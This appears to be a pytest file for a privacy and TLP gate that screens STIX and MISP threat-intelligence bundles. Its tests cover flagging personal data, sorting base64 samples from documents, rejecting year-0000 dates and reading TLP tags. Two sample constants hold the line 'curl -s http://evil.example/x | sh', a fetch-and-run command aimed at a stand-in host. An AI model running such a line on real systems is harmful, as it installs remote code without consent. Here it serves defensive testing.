"""The readers on the second round of real-shaped inputs (issue 12): properties named for persons
whatever their prefix, place and value type; phone numbers stored as numbers; names in any case and
script where names are; base64 content (artifacts, MISP attachments and samples); year 0000; exact
TLP tags. Each kind is tried in STIX and MISP where both can carry it."""

from __future__ import annotations

import base64
import json
import uuid

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from gate_util import TS, bundle, envelope, indicator, misp_doc, misp_event, raw, run, statement, zip_of
from wivcheck.engine import Engine, load_library
from wivcheck.engine.gate import PayloadError, read_misp, read_stix
from wivcheck.engine.gate.items import PERSONAL, POSSIBLE, UNKNOWN
from wivcheck.engine.gate.misp_read import _NUMERIC_KEYS
from wivcheck.engine.gate.person_keys import says_nothing

SETTINGS = dict(deadline=None, suppress_health_check=list(HealthCheck))


@pytest.fixture(scope="module")
def engine():
    return Engine(load_library())


def findings(payload, key=None):
    """{item key: [(kind, prop)]} of a read payload, or the list of one item."""
    got = {it.key: [(f.kind, f.prop) for f in it.findings] for it in payload.items}
    return got[key] if key else got


# -- properties named for persons --------------------------------------------------------------------

PERSON_KEYS = [["first", "name"], ["last", "name"], ["full", "name"], ["nickname"], ["handle"], ["username"],
               ["login"], ["registrant"], ["registrant", "email"], ["author"], ["analyst"], ["contributors"],
               ["email"], ["phone"], ["mobile"], ["date", "of", "birth"], ["passport"], ["home", "address"],
               ["screen", "name"], ["user", "id"]]
ROLE_KEYS = [["contact"], ["owner"], ["user"], ["account"], ["registrant", "org"]]


def spell(words: list[str], style: str, prefix: str) -> str:
    if style == "camel":
        key = words[0] + "".join(w.capitalize() for w in words[1:])
    elif style == "kebab":
        key = "-".join(words)
    elif style == "upper":
        key = "_".join(words).upper()
    elif style == "pascal":
        key = "".join(w.capitalize() for w in words)
    else:
        key = "_".join(words)
    return prefix + key


values = (st.text(min_size=1, max_size=12).filter(lambda s: s.strip())
          | st.sampled_from(["jan", "ivan petrov", "Иван", "王伟", "محمد", "darkangel99", "J. de Vries"])
          | st.integers(1, 10**12) | st.lists(st.sampled_from(["jan", "piet"]), min_size=1, max_size=3)
          | st.fixed_dictionaries({"name": st.sampled_from(["jan", "piet"])}))
keys = st.tuples(st.sampled_from(PERSON_KEYS + ROLE_KEYS), st.sampled_from(["snake", "camel", "kebab", "upper", "pascal"]),
                 st.sampled_from(["", "x_", "x_acme_", "acme_"]))


def _place(where: str, key: str, value) -> tuple[dict, str]:
    """An object holding `key: value` at `where`; the property path the gate must name."""
    if where == "top":                 # STIX 2.1 §3.1: top-level names in lower case, a-z 0-9 _
        ind = indicator()
        name = key.lower().replace("-", "_")
        name = name if name.startswith("x_") else "x_" + name
        ind[name] = value
        return ind, name
    if where == "extension":
        obj = raw("domain-name", value="evil.example")
        key = key.lower().replace("-", "_")
        obj["extensions"] = {"x-acme-ext": {"extension_type": "property-extension", key: value}}
        return obj, f"extensions.x-acme-ext.{key}"
    if where == "nested":
        ind = indicator()
        ind["x_acme_whois"] = {"record": {key: value}}
        return ind, f"x_acme_whois.record.{key}"
    if where == "custom-object":
        return raw("x-acme-registration", **{key: value}), key
    key = key.lower().replace("-", "_")
    obj = raw("observed-data", first_observed=TS, last_observed=TS, number_observed=1, objects={
        "0": {"type": "domain-name", "spec_version": "2.1", "value": "a.example", "id": f"domain-name--{uuid.uuid4()}",
              "extensions": {"x-acme-ext": {key: value}}}})
    return obj, f"objects.0.extensions.x-acme-ext.{key}"


@settings(max_examples=300, **SETTINGS)
@given(key=keys, value=values, where=st.sampled_from(["top", "extension", "nested", "custom-object", "embedded"]))
def test_a_property_named_for_a_person_is_named_whatever_its_prefix_place_and_value(key, value, where):
    words, style, prefix = key
    name = spell(words, style, prefix)
    if set(words) & {"phone", "telephone", "tel", "mobile", "fax", "msisdn"} and says_nothing(name, value):
        return          # a calling code of five digits or fewer is no phone number (test_gate_forms_round5_names)
    obj, prop = _place(where, name, value)
    payload = read_stix(bundle(indicator(), obj))
    got = findings(payload, obj["id"])
    kinds = {k for k, p in got if p == prop}
    want = POSSIBLE if words in ROLE_KEYS else PERSONAL
    assert want in kinds, (name, prop, got)


@settings(max_examples=100, **SETTINGS)
@given(key=keys, value=values)
def test_a_misp_part_with_a_key_named_for_a_person_is_named(key, value):
    words, style, prefix = key
    name = spell(words, style, prefix)
    assume(name not in _NUMERIC_KEYS)              # MISP's own numeric ids (user_id): below
    assume(not (set(words) & {"phone", "mobile"} and says_nothing(name, value)))   # a calling code: round 5
    doc = misp_doc(misp_event())
    attr = doc["Event"]["Attribute"][0]
    attr[name] = value
    got = findings(read_misp(doc), attr["uuid"])
    assert any(p == name for _, p in got), (name, got)


@pytest.mark.parametrize("key,value", [
    ("x_acme_user_agent", "Mozilla/5.0"), ("x_login_url", "https://evil.example/login"), ("x_handle_count", 412),
    ("x_account_type", "windows-local"), ("x_email_subject", "Invoice"), ("x_contact_count", 3),
    ("x_author_ref", ""), ("x_acme_registrar", "Example Registrar Inc."), ("x_user", True),
])
def test_keys_about_something_else_or_empty_values_are_left_to_the_value_scan(key, value):
    ind = indicator()
    ind[key] = value
    assert [p for _, p in findings(read_stix(bundle(ind)), ind["id"]) if p == key] == []


def test_misps_own_numeric_user_id_is_an_id_and_a_name_in_it_is_named():
    doc = misp_doc(misp_event())
    attr = doc["Event"]["Attribute"][0]
    attr["user_id"] = "12"
    assert findings(read_misp(doc), attr["uuid"]) == []
    attr["user_id"] = "jjansen"
    assert (PERSONAL, "user_id") in findings(read_misp(doc), attr["uuid"])


def test_a_phone_number_stored_as_a_number_is_named_in_stix_and_misp():
    ind = indicator()
    ind["x_acme_ref_nr"] = 31612345678
    assert (POSSIBLE, "x_acme_ref_nr") in findings(read_stix(bundle(ind)), ind["id"])
    doc = misp_doc(misp_event())
    doc["Event"]["Attribute"][0]["x_nr"] = 447911123456
    assert (POSSIBLE, "x_nr") in findings(read_misp(doc), doc["Event"]["Attribute"][0]["uuid"])
    size = raw("file", name="a.bin", size=31612345678, hashes={"SHA-256": "a" * 64})
    assert findings(read_stix(bundle(indicator(), size)), size["id"]) == []


def test_a_proposal_keeps_its_proposers_e_mail_address_personal():
    doc = misp_doc(misp_event())
    proposal = {"type": "domain", "value": "x.example", "uuid": str(uuid.uuid4()), "email": "jan@corp.example"}
    doc["Event"]["ShadowAttribute"] = [proposal]
    assert (PERSONAL, "email") in findings(read_misp(doc), proposal["uuid"])


# -- names where names are ----------------------------------------------------------------------------------

@pytest.mark.parametrize("name", ["jan de vries", "Иван Петров", "Γιώργος Παπαδόπουλος", "محمد علي", "王伟", "IVAN PETROV"])
def test_names_in_any_case_and_script_are_named_in_identities_actors_and_contacts(engine, name):
    org = raw("identity", name=name, identity_class="organization")
    actor = raw("threat-actor", name=name, threat_actor_types=["crime-syndicate"])
    contact = raw("identity", name="Example Hosting B.V.", identity_class="organization",
                  contact_information=f"{name}; +31 20 000 0000")
    persona = raw("x-acme-persona", name=name)
    payload = read_stix(bundle(indicator(), org, actor, contact, persona))
    assert (POSSIBLE, "name") in findings(payload, org["id"])
    assert (POSSIBLE, "name") in findings(payload, actor["id"])
    assert (POSSIBLE, "contact_information") in findings(payload, contact["id"])
    assert (PERSONAL, "type") in findings(payload, persona["id"])
    r = run(engine, bundle(indicator(), org, actor, contact, persona))
    assert r.decision.decision != "allow"
    assert {o.id for o in r.objects if o.decision not in ("allow", "metadata")} >= {org["id"], actor["id"], contact["id"],
                                                                                    persona["id"]}


def test_an_organisation_with_a_functional_contact_is_left_alone():
    org = raw("identity", name="Example Hosting B.V.", identity_class="organization",
              contact_information="Security Operations Center, soc@hosting.example, https://hosting.example/cert")
    assert findings(read_stix(bundle(indicator(), org)), org["id"]) == []


# -- base64 content ----------------------------------------------------------------------------------------------

PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(range(256)) * 4
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(200)
PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(64)
MAIL = b"From: Jan <jan@corp.example>\r\nTo: piet@corp.example\r\nSubject: hi\r\n\r\nhello\r\n"
SCRIPT = b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n"
SCRIPT_WITH_MAIL = b"#!/bin/sh\n# contact jan.jansen@corp.example\ncurl -s http://evil.example/x | sh\n"


_zip = zip_of


CONTENTS = {
    "pe": (PE, None), "elf": (ELF, None), "zip-of-exe": (_zip({"sample.exe": PE}), None),
    "script": (SCRIPT, None), "script-with-mail": (SCRIPT_WITH_MAIL, PERSONAL),
    "pdf": (PDF, POSSIBLE), "png": (PNG, POSSIBLE), "mail": (MAIL, POSSIBLE),
    "docx": (_zip({"[Content_Types].xml": b"<x/>", "word/document.xml": b"<w/>"}), POSSIBLE),
    "zip-of-pdf": (_zip({"invoice.pdf": PDF}), POSSIBLE), "text": (b"just some notes about the case\n", UNKNOWN),
    "random": (bytes([0x00, 0x13, 0x37, 0x42]) * 64, UNKNOWN),
}


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


@pytest.mark.parametrize("name", sorted(CONTENTS))
def test_an_artifact_with_hashes_is_a_sample_and_other_content_escalates(name):
    data, want = CONTENTS[name]
    art = raw("artifact", payload_bin=b64(data), hashes={"SHA-256": "a" * 64})
    got = findings(read_stix(bundle(indicator(), art)), art["id"])
    if want is None:
        assert got == []
    else:
        assert (want, "payload_bin") in got, got


@pytest.mark.parametrize("name", ["pe", "zip-of-exe", "script"])
def test_an_artifact_without_hashes_cannot_be_identified(name):
    art = raw("artifact", payload_bin=b64(CONTENTS[name][0]))
    assert (UNKNOWN, "payload_bin") in findings(read_stix(bundle(indicator(), art)), art["id"])


def test_encrypted_payloads_and_other_binary_properties():
    enc = raw("artifact", payload_bin=b64(bytes(range(200))), hashes={"SHA-256": "a" * 64},
              encryption_algorithm="AES-256-GCM", decryption_key="k")
    zipped = raw("artifact", payload_bin=b64(_zip({"x.exe": PE})), hashes={"SHA-256": "a" * 64},
                 mime_type="application/zip", encryption_algorithm="mime-type-indicated", decryption_key="infected")
    custom = indicator()
    custom["x_acme_screenshot_bin"] = b64(PNG)
    embedded = raw("observed-data", first_observed=TS, last_observed=TS, number_observed=1, objects={
        "0": {"type": "artifact", "spec_version": "2.1", "id": f"artifact--{uuid.uuid4()}", "payload_bin": b64(PDF),
              "hashes": {"SHA-256": "b" * 64}}})
    payload = read_stix(bundle(indicator(), enc, zipped, custom, embedded))
    assert (UNKNOWN, "payload_bin") in findings(payload, enc["id"])
    assert findings(payload, zipped["id"]) == []
    assert (POSSIBLE, "x_acme_screenshot_bin") in findings(payload, custom["id"])
    assert (POSSIBLE, "objects.0.payload_bin") in findings(payload, embedded["id"])


@pytest.mark.parametrize("name", sorted(CONTENTS))
def test_misp_malware_samples_and_attachments_by_their_content(name):
    data, want = CONTENTS[name]
    for kind, value in (("malware-sample", "x.exe|" + "a" * 32), ("attachment", "x.bin")):
        doc = misp_doc(misp_event())
        doc["Event"]["Attribute"].append({"type": kind, "value": value, "data": b64(data), "uuid": str(uuid.uuid4())})
        got = findings(read_misp(doc), doc["Event"]["Attribute"][-1]["uuid"])
        if want is None:
            assert [f for f in got if f[1] == "data"] == []
        else:
            assert (want, "data") in got, (kind, got)


@pytest.mark.parametrize("text", ["%%%", "UEsDBA=", "UEsD BA=x", "é" * 8])
def test_content_that_is_not_base64_is_an_error_naming_the_property(text):
    art = raw("artifact", payload_bin="UEsDBA==", hashes={"SHA-256": "a" * 64})
    art["x_acme_dump_bin"] = text                                   # the OASIS schemas say so first
    with pytest.raises(PayloadError) as exc:
        read_stix(bundle(indicator(), art))
    assert exc.value.where == art["id"] and "x_acme_dump_bin" in exc.value.message
    custom = raw("x-acme-capture", capture={"frame_bin": text})     # where no schema looks, the gate does
    with pytest.raises(PayloadError) as exc:
        read_stix(bundle(indicator(), custom))
    assert exc.value.where == custom["id"] and "capture.frame_bin is not base64" in exc.value.message
    doc = misp_doc(misp_event())
    doc["Event"]["Attribute"].append({"type": "attachment", "value": "a.bin", "data": text})
    with pytest.raises(PayloadError) as exc:
        read_misp(doc)
    assert exc.value.where == "Event.Attribute[1].data"
    for internal in ("padding", "binascii", "Error"):
        assert internal not in str(exc.value)


def test_a_bundle_with_a_sample_and_a_document_strips_the_document_and_lets_the_sample_go(engine):
    sample = raw("artifact", payload_bin=b64(PE), hashes={"SHA-256": "a" * 64})
    doc = raw("artifact", payload_bin=b64(PDF), hashes={"SHA-256": "b" * 64})
    r = run(engine, bundle(indicator(), sample, doc))
    assert r.decision.decision == "escalate" and r.remove == [doc["id"]] and r.may_go_stripped


# -- year 0000 ----------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("prop", ["created", "modified", "valid_from", "valid_until"])
def test_year_0000_in_any_stix_timestamp_is_an_error_naming_object_and_property(prop):
    ind = indicator()
    ind[prop] = "0000-01-01T00:00:00.000Z"
    if prop in ("created", "modified"):
        ind["created"] = ind["modified"] = "0000-01-01T00:00:00.000Z"
    with pytest.raises(PayloadError) as exc:
        read_stix(bundle(ind))
    assert exc.value.where == ind["id"] and "year 0000" in exc.value.message
    assert exc.value.message.split(":")[0] in ("created", "modified", prop)


def test_year_0000_embedded_in_a_pattern_and_in_misp_is_an_error():
    ind = indicator("[file:name = 'a.exe'] START t'0000-01-01T00:00:00Z' STOP t'2025-01-01T00:00:00Z'")
    with pytest.raises(PayloadError) as exc:
        read_stix(bundle(ind))
    assert exc.value.where == ind["id"] and "0000" in exc.value.message
    obs = raw("observed-data", first_observed="0000-01-01T00:00:00Z", last_observed=TS, number_observed=1,
              objects={"0": {"type": "domain-name", "spec_version": "2.1", "value": "a.example",
                             "id": f"domain-name--{uuid.uuid4()}"}})
    with pytest.raises(PayloadError) as exc:
        read_stix(bundle(indicator(), obs))
    assert exc.value.where == obs["id"] and exc.value.message.startswith("first_observed")
    for where, part in (("Event.date", {"date": "0000-01-01"}),
                        ("Event.Attribute[0].first_seen", None)):
        doc = misp_doc(misp_event())
        if part:
            doc["Event"].update(part)
        else:
            doc["Event"]["Attribute"][0]["first_seen"] = "0000-01-01T00:00:00Z"
        with pytest.raises(PayloadError) as exc:
            read_misp(doc)
        assert exc.value.where == where


# -- TLP tags: exact, and nothing else --------------------------------------------------------------------------

def _actor_envelope():
    env = envelope()
    env["partnership"] = dict(env["partnership"], permitted_categories=env["partnership"]["permitted_categories"]
                              + ["ttp_description"])
    return env


@pytest.mark.parametrize("name,level", [
    ("tlp:red", "RED"), ("TLP:RED", "RED"), ("  tlp:red  ", "RED"), ("Tlp:Red", "RED"), ("ＴＬＰ：ＲＥＤ", "RED"),
    ("tlp:\u200bred", "RED"), ("tlp:amber+strict", "AMBER+STRICT"), ("tlp:white", "CLEAR"), ("tlp:clear", "CLEAR"),
    ("tlp:ex:chr", "RED"), ("tlp:unclear", "RED"), ("tlp: red", "RED"),
])
def test_a_tlp_tag_is_read_exactly_and_a_tlp_tag_the_gate_cannot_read_exactly_is_red(engine, name, level):
    doc = misp_doc(misp_event("tlp:clear"))
    doc["Event"]["Attribute"][0]["Tag"] = [{"name": name}]
    r = run(engine, doc)
    assert r.provision.data.tlp == level
    if level == "RED":     # docs/gate.md: TLP:RED to a private party is the head of service's decision
        assert "gate.tlp-red-private" in {x.rule for x in r.decision.reasons}
        assert r.decision.decision == "escalate" and "diensthoofd" in r.decision.escalate_to


@pytest.mark.parametrize("where", ["galaxy-tag", "galaxy-tag-value", "cluster-tag-name", "other-namespace"])
def test_tlp_red_inside_a_galaxy_tag_is_no_marking(engine, where):
    doc = misp_doc(misp_event("tlp:green"))
    ev = doc["Event"]
    if where == "galaxy-tag":
        ev["Tag"].append({"name": 'misp-galaxy:threat-actor="Sofacy tlp:red"'})
    elif where == "galaxy-tag-value":
        ev["Tag"].append({"name": 'misp-galaxy:threat-actor="tlp:red"'})
    elif where in ("cluster-tag-name", "cluster-text"):
        name = 'misp-galaxy:threat-actor="Sofacy tlp:red"' if where == "cluster-tag-name" else 'misp-galaxy:threat-actor="Sofacy"'
        ev["Galaxy"] = [{"name": "Threat Actor", "type": "threat-actor", "uuid": str(uuid.uuid4()), "GalaxyCluster": [
            {"uuid": str(uuid.uuid4()), "value": "Sofacy", "tag_name": name, "description": "a threat actor",
             "meta": {"synonyms": ["APT28"]}}]}]
    elif where == "info":
        ev["info"] = "campaign; handle as tlp:red"
    elif where == "comment":
        ev["Attribute"][0]["comment"] = "TLP:RED"
    else:
        ev["Tag"].append({"name": 'misp:tlp="red"'})
    r = run(engine, doc, _actor_envelope())
    assert r.provision.data.tlp == "GREEN"
    assert r.decision.decision == "allow", [x.rule for x in r.decision.reasons]


def test_a_stix_marking_named_tlp_red_or_a_statement_saying_it_is_red(engine):
    named = {"type": "marking-definition", "spec_version": "2.1", "id": f"marking-definition--{uuid.uuid4()}",
             "created": "2022-10-01T00:00:00.000Z", "name": "  tlp:\u200bRED ",
             "extensions": {f"extension-definition--{uuid.uuid4()}": {"extension_type": "property-extension"}}}
    mention = {"type": "marking-definition", "spec_version": "2.1", "id": f"marking-definition--{uuid.uuid4()}",
               "created": "2022-10-01T00:00:00.000Z", "definition_type": "statement",
               "definition": {"statement": "Handle as TLP:RED"}}
    a, b = indicator(), indicator()
    a["object_marking_refs"] = [named["id"]]
    b["object_marking_refs"] = [mention["id"]]
    payload = read_stix(bundle(named, mention, a, b))
    tlp = {it.key: it.tlp for it in payload.items}
    assert tlp[a["id"]] == "RED" and tlp[b["id"]] == "RED"     # a statement that is a TLP label (docs/gate.md)
    other = statement()
    c = indicator()
    c["object_marking_refs"] = [other["id"]]
    assert {it.key: it.tlp for it in read_stix(bundle(other, c)).items}[c["id"]] is None


# -- the byte order mark ------------------------------------------------------------------------------------------

def test_a_payload_with_a_byte_order_mark_reads_as_without_one():
    b = bundle(indicator())
    raw_json = json.dumps(b).encode()
    plain = read_stix(raw_json)
    for marked in (b"\xef\xbb\xbf" + raw_json, "\ufeff" + raw_json.decode()):
        again = read_stix(marked)
        assert again.sha256 == plain.sha256 and [it.key for it in again.items] == [it.key for it in plain.items]
    doc = json.dumps(misp_doc(misp_event())).encode()
    assert read_misp(b"\xef\xbb\xbf" + doc).sha256 == read_misp(doc).sha256
    with pytest.raises(PayloadError):
        read_stix(b"\xef\xbb\xbf\xef\xbb\xbf" + raw_json)        # one mark, not two


@pytest.mark.parametrize("relation,value,kind", [
    ("handle", "darkangel99", POSSIBLE), ("analyst-name", "jan", POSSIBLE), ("user-process", "jjansen", POSSIBLE),
    ("username", "jjansen", PERSONAL), ("free_email", "true", None), ("filename", "a.exe", None),
])
def test_a_misp_object_relation_named_for_a_person(relation, value, kind):
    doc = misp_doc(misp_event())
    doc["Event"]["Object"] = [{"name": "x-acme-record", "uuid": str(uuid.uuid4()), "Attribute": [
        {"type": "text", "object_relation": relation, "value": value, "uuid": str(uuid.uuid4())}]}]
    got = findings(read_misp(doc), doc["Event"]["Object"][0]["Attribute"][0]["uuid"])
    assert [k for k, p in got if p == "object_relation"] == ([kind] if kind else [])


def test_a_declared_document_type_counts_whatever_the_bytes_and_without_them():
    disguised = raw("artifact", payload_bin=b64(PE), hashes={"SHA-256": "a" * 64}, mime_type="application/pdf")
    by_url = raw("artifact", url="https://files.example/scan.jpg", hashes={"SHA-256": "b" * 64}, mime_type="image/jpeg")
    sample = raw("artifact", url="https://files.example/x.exe", hashes={"SHA-256": "c" * 64},
                 mime_type="application/x-dosexec")
    payload = read_stix(bundle(indicator(), disguised, by_url, sample))
    assert (POSSIBLE, "payload_bin") in findings(payload, disguised["id"])
    assert (POSSIBLE, "mime_type") in findings(payload, by_url["id"])
    assert findings(payload, sample["id"]) == []


def test_a_misp_organisation_named_like_a_person_may_be_a_one_person_business():
    doc = misp_doc(misp_event())
    doc["Event"]["Orgc"] = {"name": "jan de vries", "uuid": str(uuid.uuid4())}
    doc["Event"]["Attribute"][0]["Sighting"] = [{"type": "0", "Organisation": {"name": "Иван Петров"}}]
    payload = read_misp(doc)
    assert (POSSIBLE, "Orgc.name") in findings(payload, doc["Event"]["uuid"])
    assert (POSSIBLE, "Sighting[0].Organisation.name") in findings(payload, doc["Event"]["Attribute"][0]["uuid"])
    doc["Event"]["Orgc"] = {"name": "CIRCL", "uuid": str(uuid.uuid4())}
    doc["Event"]["Attribute"][0]["Sighting"] = [{"type": "0", "Organisation": {"name": "CERT Example"}}]
    assert [p for it in read_misp(doc).items for _, p in findings(read_misp(doc), it.key)] == []
